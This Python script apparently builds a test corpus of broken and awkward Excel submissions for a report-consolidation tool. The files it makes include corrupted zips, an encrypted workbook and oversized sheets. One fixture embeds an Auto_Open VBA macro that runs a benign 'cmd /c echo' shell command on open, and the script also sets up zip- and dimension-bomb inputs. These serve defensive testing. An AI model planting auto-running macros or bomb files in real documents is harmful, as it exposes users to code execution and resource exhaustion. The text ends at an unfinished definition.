"""Build the corpus of bad and awkward submissions (GitHub issue 5).

    python tests/data/make_corpus.py [OUT_DIR]      # default: tests/data/corpus/

Every file starts from a copy of one of the sample's real workbooks in
``input/`` (a unit's submission, or the Renstra) and is altered the way a
secretariat really meets it: with openpyxl (what a clerk does in Excel),
with :mod:`zipfile` (what a broken disk, a mail gateway or another program
does to the package) or as raw bytes. The expectations (which finding, on
which sheet and cell, and whether the submission is still consolidated) are
kept as a Python table in ``tests/test_corpus.py``; :data:`KINDS` here says
only how each file is made.

The script is deterministic: the same kinds, names, cells and values every
run, fixed workbook properties, fixed zip timestamps and a fixed file time.
The password-protected workbook is made with a seeded salt and a fixed
time; only the LibreOffice conversions (``.xls``, ``.ods``,
LibreOffice-saved ``.xlsx``) differ from run to run at byte level, in the
metadata LibreOffice stamps.

Every altered submission that still identifies its unit carries an older
``Tanggal`` (each a different day of December 2021) and an old file time, so
that in a folder with the sample's own submissions it is the older copy: the
tool must report it (``bidang-ganda``) and keep consolidating the sample's
file.

Needs: openpyxl; LibreOffice (``soffice``) for the ``.xls``/``.ods`` kinds and
msoffcrypto-tool for the encrypted one (the ``test`` extra); kinds whose tool
is missing are skipped and listed in the result.
"""

from __future__ import annotations

import datetime as dt
import functools
import hashlib
import io
import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
INPUT = ROOT / "input"
DEFAULT_OUT = HERE / "corpus"

#: The sample's submissions, by unit code.
UNITS = {
    "SEK": "LAKIP_2021_SEK_Sekretariat.xlsx",
    "DAG": "LAKIP_2021_DAG_Bidang_Perdagangan.xlsx",
    "PSR": "LAKIP_2021_PSR_Bidang_Pasar.xlsx",
    "IND": "LAKIP_2021_IND_Bidang_Perindustrian.xlsx",
    "KUM": "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro.xlsx",
    "MET": "LAKIP_2021_MET_UPT_Metrologi_Legal.xlsx",
}
RENSTRA = "renstra.xlsx"

#: Fixed stamps, so that two runs give the same bytes.
ZIP_TIME = (2022, 1, 20, 0, 0, 0)
FILE_TIME = dt.datetime(2022, 1, 10, 8, 0).timestamp()
PROPS_TIME = dt.datetime(2022, 1, 20)

#: Size of the 'baris-100rb' Program sheet (data rows added below the real ones).
BIG_ROWS = 100_000
#: What the zip bomb's sheet inflates to.
BOMB_BYTES = 2 * 1024**3

_NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# --------------------------------------------------------------------------- #
# The kinds
# --------------------------------------------------------------------------- #


@dataclass
class Kind:
    name: str
    #: file name in the corpus folder
    file: str
    build: Callable[[Path], None]
    description: str
    #: external tool needed: "soffice", "msoffcrypto" or ""
    needs: str = ""
    #: LibreOffice conversion: (source kind or unit file, target filter extension)
    convert: tuple[str, str] | None = None


KINDS: list[Kind] = []


def kind(name: str, file: str, description: str, needs: str = "") -> Callable:
    def register(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        KINDS.append(Kind(name, file, fn, description, needs))
        return fn
    return register


def converted(name: str, file: str, description: str, source: str, fmt: str) -> None:
    """A kind made by LibreOffice: ``source`` (a unit's sample file or another kind's file) → ``fmt``."""
    KINDS.append(Kind(name, file, lambda path: None, description, "soffice", (source, fmt)))


# --------------------------------------------------------------------------- #
# Helpers
# --------------------------------------------------------------------------- #

_DAY = {}


def _tanggal(name: str) -> dt.datetime:
    """An older, distinct Tanggal for each kind (1-31 December 2021, then November, then back from October)."""
    if name not in _DAY:
        _DAY[name] = len(_DAY)
    n = _DAY[name]
    if n < 31:
        return dt.datetime(2021, 12, 1) + dt.timedelta(days=n)
    if n < 61:
        return dt.datetime(2021, 11, 1) + dt.timedelta(days=n - 31)
    return dt.datetime(2021, 10, 31) - dt.timedelta(days=n - 61)  # then backwards from October


def _register_days() -> None:
    for k in KINDS:
        _tanggal(k.name)


def _load(unit: str):
    import openpyxl

    return openpyxl.load_workbook(INPUT / UNITS.get(unit, unit))


def _identitas(wb, **values) -> None:
    """Set ``Identitas`` values by attribute label (``Tanggal=...``, ``Bidang=...``)."""
    ws = _sheet(wb, "Identitas")
    wanted = {k.replace("_", " ").lower(): v for k, v in values.items()}
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.strip().lower() in wanted:
                target = ws.cell(row=cell.row, column=cell.column + 1)
                target.value = wanted.pop(cell.value.strip().lower())
                if isinstance(target.value, dt.datetime):
                    target.number_format = "dd-mm-yyyy"
                break
    assert not wanted, f"Identitas rows not found: {wanted}"


def _sheet(wb, name: str):
    for ws in wb.worksheets:
        if ws.title.strip().lower() == name.lower():
            return ws
    raise KeyError(name)


def _save(wb, path: Path, name: str | None = None, stamp: bool = True) -> None:
    """Save with fixed properties; an older Tanggal when the workbook has an Identitas sheet."""
    if stamp and name is not None and any(ws.title.strip().lower() == "identitas" for ws in wb.worksheets):
        _identitas(wb, Tanggal=_tanggal(name))
    wb.properties.created = PROPS_TIME
    wb.properties.modified = PROPS_TIME
    wb.properties.lastModifiedBy = "Staf"
    buf = io.BytesIO()
    wb.save(buf)
    members = []
    for member, data in _members(buf.getvalue()):
        if member == "docProps/core.xml":  # openpyxl stamps the time of saving, whatever was set
            data = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2022-01-20T00:00:00Z", data)
        members.append((member, data))
    _write_zip(path, members)


def _members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i.filename, zf.read(i.filename)) for i in zf.infolist()]


def _write_zip(path: Path, members: list[tuple[str, bytes]]) -> None:
    """A zip package with fixed member times (byte-identical across runs)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)


def _edit_zip(src: Path, dst: Path, edits: dict[str, Callable[[str], str]] | None = None,
              add: dict[str, bytes | str] | None = None, drop: tuple[str, ...] = ()) -> None:
    members = []
    for name, data in _members(src.read_bytes()):
        if name in drop:
            continue
        if edits and name in edits:
            data = edits[name](data.decode("utf-8")).encode("utf-8")
        members.append((name, data))
    for name, data in (add or {}).items():
        members.append((name, data.encode("utf-8") if isinstance(data, str) else data))
    _write_zip(dst, members)


def _edited(unit: str, name: str, fn: Callable) -> Callable[[Path], None]:
    """A builder: load a unit's sample file, apply ``fn(wb)``, save with an older Tanggal."""
    def build(path: Path) -> None:
        wb = _load(unit)
        fn(wb)
        _save(wb, path, name)
    return build


#: scratch folder of the running :func:`main`
_WORK: list[Path] = []


def _staged(unit: str, name: str, fn: Callable | None = None) -> Path:
    """The unit's sample file with an older Tanggal (and ``fn`` applied), in the scratch folder."""
    wb = _load(unit)
    if fn is not None:
        fn(wb)
    tmp = _WORK[-1] / f"staged-{name}.xlsx"
    _save(wb, tmp, name)
    return tmp


def _sheet_member(path: Path, sheet: str) -> str:
    """The zip member of a worksheet, by sheet name (workbook.xml + its rels)."""
    with zipfile.ZipFile(path) as zf:
        wbxml = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', wbxml).group(1)
    target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels) or \
        re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    t = target.group(1).lstrip("/")
    return t if t.startswith("xl/") else "xl/" + t


def _set_cell_xml(xml: str, ref: str, new_cell: str) -> str:
    """Replace the ``<c r="ref" …>…</c>`` element of a sheet XML."""
    pattern = re.compile(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', re.DOTALL)
    assert pattern.search(xml), ref
    return pattern.sub(lambda m: new_cell, xml, count=1)


def _cell_style(xml: str, ref: str) -> str:
    m = re.search(rf'<c r="{ref}"([^>]*?)( s="\d+")', xml)
    return m.group(2) if m else ""


def _program_xml(unit: str, name: str, path: Path, edit: Callable[[str], str], **zip_edits: Any) -> None:
    """Write ``path``: a unit's staged sample file with its Program sheet's XML passed through ``edit``.

    ``zip_edits``: more of :func:`_edit_zip`'s arguments (``edits`` of other members, ``add``).
    """
    src = _staged(unit, name)
    edits = {_sheet_member(src, "Program"): edit, **zip_edits.pop("edits", {})}
    _edit_zip(src, path, edits, **zip_edits)


def _replace_cell(ref: str, make: Callable[[str], str]) -> Callable[[str], str]:
    """An XML edit: the cell ``ref`` becomes ``make(style)``, its style attribute (`` s="…"``) kept."""
    return lambda xml: _set_cell_xml(xml, ref, make(_cell_style(xml, ref)))


def _shift_down(ws, n: int, lines: list[str]) -> None:
    """Insert ``n`` rows of title block above everything, as a clerk pasting a letterhead."""
    from openpyxl.formula.translate import Translator

    merged = [(r.min_row, r.min_col, r.max_row, r.max_col) for r in ws.merged_cells.ranges]
    for r in list(ws.merged_cells.ranges):
        ws.unmerge_cells(str(r))
    formulas = {}
    for row in ws.iter_rows():
        for c in row:
            if c.data_type == "f" and isinstance(c.value, str):
                formulas[(c.row + n, c.column)] = (c.value, c.coordinate)
    ws.insert_rows(1, n)
    for (r, col), (text, origin) in formulas.items():
        cell = ws.cell(row=r, column=col)
        cell.value = Translator(text, origin=origin).translate_formula(cell.coordinate)
    for r0, c0, r1, c1 in merged:
        ws.merge_cells(start_row=r0 + n, start_column=c0, end_row=r1 + n, end_column=c1)
    ws.freeze_panes = None
    for i, text in enumerate(lines, start=1):
        ws.cell(row=i, column=1).value = text


KOP = [
    "PEMERINTAH KOTA PONTIANAK",
    "DINAS KOPERASI, USAHA MIKRO DAN PERDAGANGAN",
    "Jalan Letjend. Sutoyo, Pontianak",
    "",
    "LAPORAN KINERJA TAHUN 2021",
]


def _permute(ws, header_row: int, order: list[str]) -> None:
    """Reorder columns from ``header_row`` down: target column i gets source column ``order[i]``."""
    from copy import copy

    from openpyxl.utils import column_index_from_string, get_column_letter

    src_idx = [column_index_from_string(c) for c in order]
    new_letter = {get_column_letter(s): get_column_letter(i + 1) for i, s in enumerate(src_idx)}
    remap = re.compile(r"(?<![A-Z])([A-K])(\d+)")
    for r in range(header_row, ws.max_row + 1):
        cells = [(ws.cell(r, s).value, copy(ws.cell(r, s)._style), ws.cell(r, s).number_format) for s in src_idx]
        for i, (value, style, fmt) in enumerate(cells, start=1):
            target = ws.cell(r, i)
            if isinstance(value, str) and value.startswith("="):
                value = remap.sub(lambda m: new_letter.get(m.group(1), m.group(1)) + m.group(2), value)
            target.value = value
            target._style = style
            target.number_format = fmt


def _text_cell(cell, text: str) -> None:
    """Store ``text`` as a string even if it starts with ``=`` (openpyxl would make it a formula)."""
    cell.value = text
    cell.data_type = "s"


# --------------------------------------------------------------------------- #
# Files that cannot be opened
# --------------------------------------------------------------------------- #


@kind("zip-terpotong", "LAKIP_2021_PSR_Bidang_Pasar (terpotong).xlsx",
      "unduhan lampiran surel yang terputus: arsip zip terpotong di tengah")
def _truncated(path: Path) -> None:
    data = (INPUT / UNITS["PSR"]).read_bytes()
    path.write_bytes(data[: len(data) * 3 // 5])


@kind("zip-isi-rusak", "LAKIP_2021_DAG_Bidang_Perdagangan (flashdisk).xlsx",
      "bita rusak di dalam data lembar Program (flashdisk rusak); daftar isi zip utuh")
def _corrupt_member(path: Path) -> None:
    src = _staged("DAG", "zip-isi-rusak")
    data = bytearray(src.read_bytes())
    member = _sheet_member(src, "Program")
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(member)
    # local header: 30 bytes + name + extra, then the compressed data
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26: info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    for i in range(start + 200, start + min(info.compress_size - 10, 1200), 7):
        data[i] ^= 0x5A
    path.write_bytes(bytes(data))


@kind("teks-bernama-xlsx", "LAKIP_2021_PSR_Bidang_Pasar (dari surel).xlsx",
      "isi surel yang disimpan sebagai teks lalu diberi nama .xlsx")
def _text_as_xlsx(path: Path) -> None:
    path.write_text(
        "Yth. Subbag Perencanaan,\r\n\r\nBerikut laporan kinerja Bidang Pasar tahun 2021:\r\n"
        "IKU01 Persentase Pasar rakyat binaan yang memenuhi SNI pasar: target 5,88%, realisasi 8,57%\r\n"
        "3.30.03.2.01.01 Jumlah sarana Pasar Rakyat yang tersedia: 2 pasar, Rp 798.887.400\r\n\r\n"
        "Terima kasih.\r\nStaf Bidang Pasar\r\n", encoding="utf-8")


@kind("kosong-0-bita", "LAKIP_2021_MET_UPT_Metrologi_Legal (gagal unduh).xlsx",
      "lampiran yang gagal diunduh: berkas 0 bita")
def _zero_bytes(path: Path) -> None:
    path.write_bytes(b"")


@kind("html-bernama-xls", "Realisasi_Anggaran_SIPD_IND.xls",
      "ekspor aplikasi web (tabel HTML) yang diberi nama .xls, seperti unduhan SIPD")
def _html_xls(path: Path) -> None:
    rows = "".join(
        f"<tr><td>{k}</td><td>{u}</td><td>{p}</td><td>{r}</td></tr>"
        for k, u, p, r in (("3.31.02.2.01.02", "Jangka waktu pemenuhan/fasilitasi", "41.473.350", "36.769.500"),
                           ("3.31.02.2.01.04", "Jumlah Industri yang diberdayakan", "77.690.000", "76.964.000")))
    path.write_text(
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body>'
        "<table><tr><th>Kode</th><th>Uraian</th><th>Pagu</th><th>Realisasi</th></tr>" + rows +
        "</table></body></html>", encoding="utf-8")


converted("xls-bernama-xlsx", "LAKIP_2021_IND_Bidang_Perindustrian (xls lama).xlsx",
          "workbook Excel 97-2003 (.xls) yang namanya diganti menjadi .xlsx", "IND", "xls")


@kind("terenkripsi", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (sandi).xlsx",
      "disimpan dengan 'Encrypt with Password' (kata sandi: pasar2021)", needs="msoffcrypto")
def _encrypted(path: Path) -> None:
    import msoffcrypto.method.container.ecma376_encrypted as container
    import msoffcrypto.method.ecma376_agile as agile
    from msoffcrypto.format.ooxml import OOXMLFile

    src = _staged("KUM", "terenkripsi")
    counter = iter(range(1, 1 << 30))

    def random_buffer(n: int) -> bytes:  # seeded salt and key: the corpus is deterministic
        out = b""
        while len(out) < n:
            out += hashlib.sha256(f"lakip-corpus-{next(counter)}".encode()).digest()
        return out[:n]

    class FixedNow(dt.datetime):  # the OLE container stamps the time of writing
        @classmethod
        def now(cls, tz=None):
            return cls(2022, 1, 20)

    original = agile._random_buffer, container.datetime
    agile._random_buffer, container.datetime = random_buffer, FixedNow
    try:
        with src.open("rb") as fh, path.open("wb") as out:
            OOXMLFile(fh).encrypt("pasar2021", out)
    finally:
        agile._random_buffer, container.datetime = original


# --------------------------------------------------------------------------- #
# Sheets and headers
# --------------------------------------------------------------------------- #


def _only_petunjuk(wb) -> None:
    for name in ("Identitas", "IKU", "Program"):
        wb.remove(wb[name])


kind("workbook-tanpa-lembar-kontrak", "Petunjuk_Pengisian_Bidang_Pasar.xlsx",
     "hanya lembar Petunjuk yang tersisa (lembar Identitas, IKU dan Program terhapus)")(
    _edited("PSR", "workbook-tanpa-lembar-kontrak", _only_petunjuk))

kind("tanpa-lembar-program", "LAKIP_2021_DAG_Bidang_Perdagangan (tanpa Program).xlsx",
     "lembar Program terhapus")(
    _edited("DAG", "tanpa-lembar-program", lambda wb: wb.remove(wb["Program"])))

kind("tanpa-lembar-identitas", "LAKIP_2021_IND_Bidang_Perindustrian (tanpa Identitas).xlsx",
     "lembar Identitas terhapus")(
    _edited("IND", "tanpa-lembar-identitas", lambda wb: wb.remove(wb["Identitas"])))


def _rename_realisasi(wb) -> None:
    wb["IKU"]["G4"].value = "Capaian"
    wb["Program"]["G4"].value = "Capaian"


kind("kolom-capaian", "LAKIP_2021_IND_Bidang_Perindustrian (kolom Capaian).xlsx",
     "judul kolom 'Realisasi' diganti 'Capaian' di lembar IKU dan Program")(
    _edited("IND", "kolom-capaian", _rename_realisasi))


def _reorder(wb) -> None:
    # IKU: Realisasi and Target first, Kode Indikator in the middle
    _permute(wb["IKU"], 4, ["G", "F", "A", "B", "C", "D", "E", "H", "I"])
    # Program: the money first, Kode fourth, Realisasi last
    _permute(wb["Program"], 4, ["I", "J", "K", "A", "B", "C", "D", "E", "F", "H", "G"])
    wb["IKU"].freeze_panes = None
    wb["Program"].freeze_panes = None


kind("kolom-diacak", "LAKIP_2021_DAG_Bidang_Perdagangan (kolom diacak).xlsx",
     "urutan kolom IKU dan Program diubah (Realisasi, Pagu di depan); isinya sama")(
    _edited("DAG", "kolom-diacak", _reorder))


def _push_8(wb) -> None:
    for name in ("Identitas", "IKU", "Program"):
        _shift_down(wb[name], 5, KOP)  # 3 rows of title block become 8


kind("judul-8-baris", "LAKIP_2021_MET_UPT_Metrologi_Legal (kop surat).xlsx",
     "kop surat di atas tabel: baris judul kolom turun ke baris 9 di semua lembar")(
    _edited("MET", "judul-8-baris", _push_8))


def _push_23(wb) -> None:
    _shift_down(wb["Program"], 19, KOP + ["", "Lampiran I", "", "Disusun oleh Bidang Koperasi dan Usaha Mikro"])


kind("judul-lewat-baris-20", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (judul baris 23).xlsx",
     "kop dan catatan panjang di atas tabel Program: baris judul kolom di baris 23 (lewat 20 baris)")(
    _edited("KUM", "judul-lewat-baris-20", _push_23))


def _header_spelling(wb) -> None:
    iku, prog, ident = wb["IKU"], wb["Program"], wb["Identitas"]
    for ref, text in (("A4", "KODE\u00a0INDIKATOR"), ("B4", "Sasaran\nStrategis"), ("C4", "Indikator Kinerja:"),
                      ("D4", "  satuan "), ("E4", "POLARITAS"), ("G4", "Realisasi\u00a0"), ("H4", "penyebab"),
                      ("I4", "Solusi :")):
        iku[ref].value = text
    for ref, text in (("A4", "Kode :"), ("B4", "URAIAN"), ("C4", "Indikator\n"), ("F4", "TARGET"),
                      ("G4", "Realisasi\r\n"), ("I4", "PAGU"), ("J4", "Realisasi\nAnggaran"),
                      ("K4", "Penjelasan\u00a0:")):
        prog[ref].value = text
    ident["A4"].value = "ATRIBUT"
    ident["B4"].value = "Nilai:"
    for row in ident.iter_rows(min_row=5, max_col=1):
        if row[0].value == "Tahun":
            row[0].value = "TAHUN\u00a0"
        elif row[0].value == "Bidang":
            row[0].value = " bidang:"


kind("judul-kolom-ejaan", "LAKIP_2021_IND_Bidang_Perindustrian (judul diketik ulang).xlsx",
     "judul kolom diketik ulang: spasi tak terputus, ganti baris, huruf besar, titik dua")(
    _edited("IND", "judul-kolom-ejaan", _header_spelling))


def _sheet_case(wb) -> None:
    for old, new in (("Identitas", "IDENTITAS"), ("IKU", "iku "), ("Program", "Program ")):
        wb[old].title = "sementara"  # openpyxl would add '1' to a name that differs only in case
        wb["sementara"].title = new


kind("nama-lembar-ejaan", "LAKIP_2021_MET_UPT_Metrologi_Legal (nama lembar).xlsx",
     "nama lembar diketik ulang: 'IDENTITAS', 'iku ', 'Program '")(
    _edited("MET", "nama-lembar-ejaan", _sheet_case))


def _merge_kode(wb) -> None:
    ws = wb["Program"]
    assert ws["A24"].value == ws["A25"].value == "3.30.04"
    ws.merge_cells("A24:A25")
    ws.merge_cells("B24:B25")


kind("kode-digabung", "LAKIP_2021_DAG_Bidang_Perdagangan (sel digabung).xlsx",
     "sel Kode dan Uraian 3.30.04 digabung (merge) di atas dua baris indikatornya")(
    _edited("DAG", "kode-digabung", _merge_kode))


# --------------------------------------------------------------------------- #
# Formulas
# --------------------------------------------------------------------------- #


def _formula_no_value(wb) -> None:
    wb["Program"]["G5"].value = "=ROUND(2/17*100,2)"  # 2 pasar of 17 = 11,76 %


kind("rumus-tanpa-nilai", "LAKIP_2021_PSR_Bidang_Pasar (rumus openpyxl).xlsx",
     "Realisasi program berisi rumus =ROUND(2/17*100,2) yang ditulis program lain, tanpa nilai tersimpan")(
    _edited("PSR", "rumus-tanpa-nilai", _formula_no_value))


@kind("rumus-dengan-nilai", "LAKIP_2021_PSR_Bidang_Pasar (rumus Excel).xlsx",
      "Realisasi program berisi rumus =ROUND(2/17*100,2) dengan nilai tersimpan 11,76, seperti disimpan Excel")
def _formula_cached(path: Path) -> None:
    _program_xml("PSR", "rumus-dengan-nilai", path,
                 _replace_cell("G5", lambda style: f'<c r="G5"{style}><f>ROUND(2/17*100,2)</f><v>11.76</v></c>'))


@kind("rumus-galat", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (#DIV0).xlsx",
      "Realisasi berisi rumus yang tersimpan sebagai galat #DIV/0!")
def _formula_error(path: Path) -> None:
    _program_xml("KUM", "rumus-galat", path,
                 _replace_cell("G10", lambda style: f'<c r="G10"{style} t="e"><f>G11/G12</f><v>#DIV/0!</v></c>'))


@kind("xlsm-makro", "LAKIP_2021_IND_Bidang_Perindustrian.xlsm",
      "disimpan sebagai .xlsm dengan makro VBA Auto_Open (dibaca sebagai data, tidak dijalankan)")
def _xlsm(path: Path) -> None:
    src = _staged("IND", "xlsm-makro")
    # An OLE header and the text of a macro that would act if anything ran it.
    vba = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 +
           b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\n"
           b"    Shell \"cmd /c echo dijalankan > %TEMP%\\lakip_makro.txt\"\r\nEnd Sub\r\n").ljust(1536, b"\x00")

    def content_types(xml: str) -> str:
        xml = xml.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        return xml.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')

    def rels(xml: str) -> str:
        return xml.replace("</Relationships>",
                           '<Relationship Id="rIdVba1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                           'Target="vbaProject.bin"/></Relationships>')

    def workbook(xml: str) -> str:
        return xml.replace("<workbookPr", '<workbookPr codeName="ThisWorkbook"', 1) if "<workbookPr" in xml else xml

    _edit_zip(src, path, {"[Content_Types].xml": content_types, "xl/_rels/workbook.xml.rels": rels,
                          "xl/workbook.xml": workbook}, add={"xl/vbaProject.bin": vba})


# --------------------------------------------------------------------------- #
# Numbers and codes
# --------------------------------------------------------------------------- #


def _numbers_id(wb) -> None:
    iku, prog = wb["IKU"], wb["Program"]
    iku["G5"].value = "8,57%"
    prog["I7"].value = "800.537.400,00"
    prog["J7"].value = "Rp 798.887.400,00"
    prog["I8"].value = "1.347.172.000"
    prog["J11"].value = "Rp. 128.067.500,-"
    for ref in ("I7", "J7", "I8", "J11"):
        prog[ref].number_format = "@"
    iku["G5"].number_format = "@"


kind("angka-teks-indonesia", "LAKIP_2021_PSR_Bidang_Pasar (angka teks).xlsx",
     "angka diketik sebagai teks cara Indonesia: '8,57%', '800.537.400,00', 'Rp 798.887.400,00'")(
    _edited("PSR", "angka-teks-indonesia", _numbers_id))


def _numbers_en(wb) -> None:
    prog = wb["Program"]
    prog["I20"].value = "394,448,639.00"
    prog["J20"].value = "394,448,430"
    prog["J33"].value = "198,924,194.00"
    for ref in ("I20", "J20", "J33"):
        prog[ref].number_format = "@"


kind("angka-teks-inggris", "LAKIP_2021_KUM_Bidang_Koperasi_dan_Usaha_Mikro (angka Inggris).xlsx",
     "angka teks cara Inggris dari komputer berbahasa Inggris: '394,448,639.00'")(
    _edited("KUM", "angka-teks-inggris", _numbers_en))


def _percent_format(wb) -> None:
    cell = wb["IKU"]["G5"]
    cell.value = 0.0857
    cell.number_format = "0.00%"


kind("persen-format", "LAKIP_2021_PSR_Bidang_Pasar (sel persen).xlsx",
     "8,57% diketik di sel berformat persen: tersimpan 0,0857")(
    _edited("PSR", "persen-format", _percent_format))


def _date_in_number(wb) -> None:
    cell = wb["Program"]["G8"]
    cell.value = dt.datetime(2021, 12, 31)
    cell.number_format = "dd/mm/yyyy"


kind("tanggal-di-angka", "LAKIP_2021_IND_Bidang_Perindustrian (tanggal).xlsx",
     "Realisasi '12' berubah menjadi tanggal 31/12/2021 karena format sel tanggal")(
    _edited("IND", "tanggal-di-angka", _date_in_number))


def _text_in_number(wb) -> None:
    wb["Program"]["G10"].value = "Tercapai"


kind("realisasi-kata", "LAKIP_2021_IND_Bidang_Perindustrian (realisasi kata).xlsx",
     "Realisasi ditulis 'Tercapai' alih-alih angka")(
    _edited("IND", "realisasi-kata", _text_in_number))


def _negative(wb) -> None:
    wb["Program"]["J7"].value = -345027065


kind("angka-negatif", "LAKIP_2021_MET_UPT_Metrologi_Legal (negatif).xlsx",
     "Realisasi Anggaran -345.027.065 (tanda minus terketik)")(
    _edited("MET", "angka-negatif", _negative))


def _absurd(wb) -> None:
    wb["Program"]["I7"].value = 355845181e9  # typed with the sen and more zeros


kind("angka-tidak-wajar", "LAKIP_2021_MET_UPT_Metrologi_Legal (angka besar).xlsx",
     "Pagu 355.845.181.000.000.000 (kelebihan nol)")(
    _edited("MET", "angka-tidak-wajar", _absurd))


def _code_time(wb) -> None:
    cell = wb["Program"]["A5"]
    cell.value = dt.time(3, 30, 3)
    cell.number_format = "hh:mm:ss"


kind("kode-jam", "LAKIP_2021_PSR_Bidang_Pasar (kode jam).xlsx",
     "kode program 3.30.03 diketik ulang sebagai 03:30:03 dan disimpan Excel sebagai jam")(
    _edited("PSR", "kode-jam", _code_time))


@kind("renstra-kode-iku-angka", "Renstra_2021-2024_kode_IKU_bernomor.xlsx",
      "Renstra yang memakai kode IKU bernomor (1.10 untuk IKU01); juga rekap yang bukan laporan bidang")
def _renstra_numeric(path: Path) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(INPUT / RENSTRA)
    for name in ("Sasaran", "Riwayat"):
        for row in wb[name].iter_rows():
            for c in row:
                if c.value == "IKU01":
                    _text_cell(c, "1.10")
                    c.number_format = "@"
    _save(wb, path, stamp=False)


def _iku_number(wb) -> None:
    cell = wb["IKU"]["A5"]
    cell.value = 1.1  # '1.10' typed into a General cell
    cell.number_format = "General"


kind("kode-iku-angka", "LAKIP_2021_PSR_Bidang_Pasar (kode IKU angka).xlsx",
     "kode IKU 1.10 (Renstra bernomor) diketik di sel umum dan menjadi angka 1,1")(
    _edited("PSR", "kode-iku-angka", _iku_number))


# --------------------------------------------------------------------------- #
# Size
# --------------------------------------------------------------------------- #


@kind("baris-100rb", "LAKIP_2021_PSR_Bidang_Pasar (100 ribu baris).xlsx",
      f"baris sub kegiatan tersalin ke bawah sampai {BIG_ROWS:,} baris tambahan (Ctrl+D kebablasan)")
def _big(path: Path) -> None:
    src = _staged("PSR", "baris-100rb")
    member = _sheet_member(src, "Program")
    with zipfile.ZipFile(src) as zf:
        xml = zf.read(member).decode()
    # the sub kegiatan rows as templates, strings shared as Excel stores them
    strings: dict[str, int] = {}
    templates = []
    for r in (7, 8, 10, 11):
        row = re.search(rf'<row r="{r}"[^>]*>(.*?)</row>', xml, re.DOTALL).group(1)
        cells = []
        for ref, attrs, body in re.findall(r'<c r="([A-Z]+)\d+"([^>]*?)(?:/>|>(.*?)</c>)', row, re.DOTALL):
            if ref == "K":
                continue  # the copies have no Penjelasan
            text = re.search(r"<t[^>]*>(.*?)</t>", body or "", re.DOTALL)
            style = re.search(r' s="\d+"', attrs)
            style = style.group(0) if style else ""
            if text is not None:
                idx = strings.setdefault(text.group(1), len(strings))
                cells.append(f'<c r="{ref}{{n}}"{style} t="s"><v>{idx}</v></c>')
            else:
                value = re.search(r"<v>(.*?)</v>", body or "")
                if value:
                    cells.append(f'<c r="{ref}{{n}}"{style}><v>{value.group(1)}</v></c>')
        templates.append('<row r="{n}">' + "".join(cells) + "</row>")
    last = max(int(x) for x in re.findall(r'<row r="(\d+)"', xml))
    rows = [templates[i % len(templates)].format(n=last + 1 + i) for i in range(BIG_ROWS)]
    xml = xml.replace("</sheetData>", "".join(rows) + "</sheetData>", 1)
    xml = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:K{last + BIG_ROWS}"', xml, count=1)
    sst = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{_NS_MAIN}" '
           f'count="{len(strings)}" uniqueCount="{len(strings)}">' +
           "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>")
    _edit_zip(src, path, {member: lambda _: xml, "[Content_Types].xml": _add_sst_type,
                          "xl/_rels/workbook.xml.rels": _add_sst_rel}, add={"xl/sharedStrings.xml": sst})


def _add_sst_type(xml: str) -> str:
    return xml.replace("</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType='
                       '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')


def _add_sst_rel(xml: str) -> str:
    return xml.replace("</Relationships>", '<Relationship Id="rIdSst1" Type="http://schemas.openxmlformats.org/'
                       'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')


@kind("sel-baris-terakhir", "LAKIP_2021_SEK_Sekretariat (catatan di baris terakhir).xlsx",
      "catatan terketik di sel K1048576 (baris terakhir lembar, lewat Ctrl+panah bawah)")
def _last_row(path: Path) -> None:
    def edit(xml: str) -> str:
        return xml.replace("</sheetData>", '<row r="1048576"><c r="K1048576" t="inlineStr"><is><t>cek lagi</t></is>'
                           "</c></row></sheetData>", 1)

    _program_xml("SEK", "sel-baris-terakhir", path, edit)


@kind("bom-dimensi", "LAKIP_2021_SEK_Sekretariat (sel XFD1048576).xlsx",
      "nilai di sel terakhir lembar XFD1048576: tabel selebar 16.384 kolom × 1.048.576 baris")
